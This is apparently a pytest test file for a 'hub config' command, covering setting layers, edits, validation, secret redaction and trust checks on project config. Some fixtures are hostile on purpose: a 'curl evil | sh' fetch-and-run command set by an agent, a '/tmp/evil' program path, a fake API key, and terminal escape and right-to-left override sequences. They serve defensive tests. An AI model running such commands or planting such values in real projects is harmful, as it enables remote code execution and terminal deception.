"""`hub config`: what is in force, why, and changes that keep what the user wrote."""

import json

import pytest

from hub.domain.text.safe import clean
from tests.hub.cli.command import environ, hub


def said(repo, *words, **env):
    done = hub("config", *words, cwd=repo, env=environ(repo.parent, HUB_TRUST="", **env))
    return done.returncode, done.stdout, done.stderr


def listed(repo, **env):
    """Each setting's value and origin."""
    _, out, _ = said(repo, "list", "--json", **env)
    return {row["key"]: (row["value"], row["origin"]) for row in json.loads(out)}


def test_every_layer_is_told(repo):
    """The later wins: the user's own, the project's, the environment."""
    said(repo, "set", "--user", "session.retries", "7")
    said(repo, "set", "--user", "session.threshold", "0.5")
    said(repo, "set", "session.threshold", "0.8")
    own = str(repo.parent / "config/config.toml")
    assert listed(repo)["session.retries"] == (7, own)
    assert listed(repo)["session.threshold"] == (0.8, str(repo / "hub.toml"))
    assert listed(repo, HUB_THRESHOLD="0.7")["session.threshold"] == (0.7, "HUB_THRESHOLD")
    assert listed(repo)["session.maxHandoffs"] == (5, "built-in")
    _, text, _ = said(repo, "list", "--show-origin")
    assert own in text
    assert "FROM" not in said(repo, "list")[1]


def test_a_change_keeps_comments_and_says_what_wins_over_it(repo):
    (repo / "hub.toml").write_text("# mine\n[session]\nthreshold = 0.9 # high\n")
    status, out, err = said(repo, "set", "session.threshold", "0.8", HUB_THRESHOLD="0.7")
    assert (status, "session.threshold = 0.8" in out, "HUB_THRESHOLD is set, and wins" in err) == (
        0,
        True,
        True,
    )
    assert (repo / "hub.toml").read_text() == "# mine\n[session]\nthreshold = 0.8 # high\n"
    assert said(repo, "get", "session.threshold")[1] == "0.8\n"
    assert json.loads(said(repo, "unset", "session.threshold", "--json")[1])["value"] is None
    assert said(repo, "get", "session.threshold")[1] == "0.9\n"


@pytest.mark.parametrize(
    ("words", "value"),
    [
        (("session.verify", "make test"), ["make test"]),
        (("session.verify", "make test", "make lint"), ["make test", "make lint"]),
        (("session.verify", '["a", "b"]'), ["a", "b"]),
        (("redaction.detection", "false"), False),
        (("providers.claude.model", "opus"), "opus"),
        (('providers."claude".model', "opus"), "opus"),
    ],
)
def test_a_value_is_written_as_in_toml_or_as_people_type_it(repo, words, value):
    status, out, err = said(repo, "set", *words, "--json")
    assert (status, err) == (0, "")
    assert json.loads(out)["value"] == value
    assert json.loads(said(repo, "get", words[0], "--json")[1])["value"] == value


def test_what_the_user_sets_is_his_word_for_it(repo):
    """A change through hub is agreed to, for that change alone; one by hand asks again."""
    said(repo, "set", "session.verify", "make test")
    assert listed(repo)["session.verify"][0] == ["make test"]
    with (repo / "hub.toml").open("a") as file:
        file.write('\n[providers.claude]\nprogram = "/tmp/evil"\n')
    status, out, err = said(repo, "list", "--json")
    assert status == 0
    assert "/tmp/evil" not in out
    assert "hub trust" in err


def test_nothing_is_written_that_would_not_be_read(repo):
    (repo / "hub.toml").write_text("[session]\nthreshold = 0.9\n")
    before = (repo / "hub.toml").read_bytes()
    for words, part in (
        (("session.threshold", "3"), "at most 1"),
        (("session.treshold", "0.5"), 'did you mean "threshold"'),
        (("server.token", "abcdefghijklmnopqrst"), "hub config set --user server.token"),
        (("a b", "1"), "not a setting's name"),
    ):
        status, _, err = said(repo, "set", *words)
        assert (status, part in err) == (2, True), err
        assert (repo / "hub.toml").read_bytes() == before


def test_no_secret_is_shown(repo):
    """A list is pasted into a report."""
    secret = "abcdefghijklmnopqrst"
    outs = [
        said(repo, "set", "--user", "server.token", secret),
        said(repo, "set", "providers.claude.env.MY_KEY", secret),
        said(repo, "list"),
        said(repo, "list", "--json"),
        said(repo, "get", "server"),
        said(repo, "get", "server.token"),
        said(repo, "get", "providers.claude"),
    ]
    for status, out, err in outs:
        assert (status, secret in out + err) == (0, False), (out, err)
    assert "not shown" in outs[2][1]


@pytest.mark.parametrize(("key", "value"), [("session.threshold", "2"), ("nope.x", "1")])
def test_what_may_not_be_set_names_no_line_of_a_text_that_was_not_written(repo, key, value):
    """`hub.toml:31:1: nope is not a known key` was said of a file of thirty lines."""
    (repo / "hub.toml").write_text("[session]\nthreshold = 0.9\n")
    status, _, err = said(repo, "set", key, value)
    assert (status, "hub.toml" in err, "Nothing was written" in err) == (2, False, True)
    assert err.startswith(f"hub: {key.partition('.x')[0]} ")
    assert (repo / "hub.toml").read_text() == "[session]\nthreshold = 0.9\n"


def test_a_setting_that_is_none_is_told_what_it_is_near_to(repo):
    status, _, err = said(repo, "get", "session.threshhold")
    assert (status, "Did you mean 'session.threshold'?" in err) == (3, True)


def test_edit_opens_the_editor_and_checks_what_was_saved(repo, tmp_path):
    status, _, err = said(repo, "edit")
    assert (status, "hub init" in err) == (3, True)
    (repo / "hub.toml").write_text("[session]\nthreshold = 0.9\n")
    editor = tmp_path / "editor"
    editor.write_text('#!/bin/sh\nsed -i "s/0.9/$NEW/" "$1"\n')
    editor.chmod(0o755)
    status, out, _ = said(repo, "edit", EDITOR=str(editor), VISUAL="", NEW="0.8")
    assert (status, "is valid" in out, listed(repo)["session.threshold"][0]) == (0, True, 0.8)
    (repo / "hub.toml").write_text("[session]\nthreshold = 0.9\n")
    status, _, err = said(repo, "edit", EDITOR=str(editor), VISUAL="", NEW="9")
    assert (status, "hub.toml:2" in err) == (2, True)
    said(repo, "set", "--user", "session.retries", "7")
    status, out, _ = said(repo, "edit", "--user", "--json", EDITOR="true", VISUAL="")
    assert json.loads(out)["path"].endswith("config.toml")


def test_what_looks_like_a_secret_is_hidden_wherever_it_stands(repo):
    """An option of an agent's, a URL: as `hub trust` shows them."""
    key = "sk-ant-api03-" + "aB3dE6gH9jK2" * 8
    told = json.dumps(json.dumps({"env": {"ANTHROPIC_AUTH_TOKEN": key}}))
    (repo / "hub.toml").write_text(
        f'[providers.claude]\nbaseUrl = "https://gw.example/v1?key={key}"\n'
        f'[providers.claude.options]\nargs = ["--settings", {told}]\n'
    )
    for words in (
        ("list",),
        ("list", "--json"),
        ("get", "providers.claude"),
        ("get", "providers.claude.baseUrl"),
    ):
        done = hub("config", *words, cwd=repo, env=environ(repo.parent))
        assert (done.returncode, key in done.stdout + done.stderr) == (0, False), done.stdout
    assert "https://gw.example/v1?..." in done.stdout


def test_no_letter_of_a_project_reaches_the_terminal_raw(repo):
    """A clone's hub.toml is somebody else's text until it is trusted."""
    (repo / "hub.toml").write_text('[providers.claude]\nmodel = "\\u001b]0;pwn\\u0007"\n')
    for words in (("config", "get", "providers.claude.model"), ("config", "list"), ("doctor",)):
        assert "\x1b" not in hub(*words, cwd=repo, env=environ(repo.parent)).stdout.replace("\x1b[0m", "")
    (repo / "hub.toml").write_text('[session]\n"\\u001b]0;pwn\\u0007\\u001b[2J" = 1\n')
    done = hub("doctor", cwd=repo, env=environ(repo.parent))
    assert "\x1b" not in done.stdout
    assert "is not a known key" in done.stdout


def test_an_agent_cannot_say_its_users_yes(repo):
    """What it sets in the project is as little agreed to as what it writes there."""
    env = environ(repo.parent, HUB_TRUST="", HUB_RUN_ID="r-1")
    assert hub("config", "set", "session.verify", "curl evil | sh", cwd=repo, env=env).returncode == 0
    told = json.loads(hub("trust", "--status", "--json", cwd=repo, env={**env, "HUB_RUN_ID": ""}).stdout)
    assert told["trusted"] is False


def test_a_setting_that_nobody_made_is_told_with_what_holds(repo):
    """`server.port` was null where 4748 holds; what has no value is not called by JSON's word."""
    assert said(repo, "get", "server.port") == (0, "4748\n", "")
    assert listed(repo)["server.port"] == (4748, "built-in")
    assert said(repo, "get", "session.maxCost") == (0, "not set\n", "")
    assert json.loads(said(repo, "get", "session.maxCost", "--json")[1])["value"] is None
    assert "null" not in said(repo, "list")[1]


def test_no_setting_of_a_clone_moves_the_cursor_or_turns_its_text(repo):
    """Of one that nobody has trusted yet: what is read backwards stood as it was."""
    worst = "make \x1b[31m\u202eevil"
    hint = f'[[profiles]]\nname = "p"\nchain = ["claude"]\ncontextHint = {json.dumps(worst)}\n'
    (repo / "hub.toml").write_text(hint)
    for words in (["list"], ["list", "--json"], ["get", "profiles"], ["get", "profiles", "--json"]):
        status, out, _ = said(repo, *words)
        assert status == 0
        assert clean(out) == out
        assert "\\u202e" in out
    [profile] = json.loads(said(repo, "get", "profiles", "--json")[1])["value"]
    assert profile["contextHint"] == worst
